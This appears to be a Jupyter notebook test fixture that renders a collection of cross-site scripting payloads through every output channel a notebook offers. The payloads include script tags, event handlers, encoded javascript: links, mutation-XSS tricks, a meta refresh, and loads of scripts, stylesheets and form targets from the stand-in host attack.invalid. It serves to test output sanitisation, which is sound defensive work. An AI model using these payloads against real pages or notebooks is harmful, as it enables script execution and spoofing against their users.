# %% [markdown]
# Displays JavaScript in all the ways that a notebook has: scripts, handlers, links, frames, forms and refreshes.

# %%
from IPython.display import HTML, IFrame, Javascript, Markdown, display

display(Javascript("document.title = 'attacked'"))
display(IFrame("javascript:alert(1)", 100, 100))
for text in (
    "<script>document.title = 'attacked'</script>",
    "<ScRiPt src=//attack.invalid/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)><body onload=alert(1)><details open ontoggle=alert(1)>",
    "<a href='java&#10;script:alert(1)'>a</a><a href=' &#1; javascript:alert(1)'>b</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x></object><embed src=x>",
    "<base href=//attack.invalid><noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form action=//attack.invalid><input name=x autofocus onfocus=alert(1)></form>",
    "<meta http-equiv=refresh content='0; url=javascript:alert(1)'><link rel=stylesheet href=//attack.invalid/x.css>",
    "<style>@import '//attack.invalid/x.css'; body { display: none }</style>",
    "<div style='position:fixed;inset:0;background:url(//attack.invalid)'>Score 1000</div>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "</pre></div></body></html><script>alert(1)</script>",
    "<!--><script>alert(1)</script-->",
):
    display(HTML(text))
    display(Markdown(text))
    print(text)
display({"text/html": ["<script>", "alert(1)", "</script>"], "text/latex": "\\href{javascript:alert(1)}{x}"}, raw=True)
display({"application/vnd.jupyter.widget-view+json": {"model_id": "</script><script>alert(1)</script>"}}, raw=True)
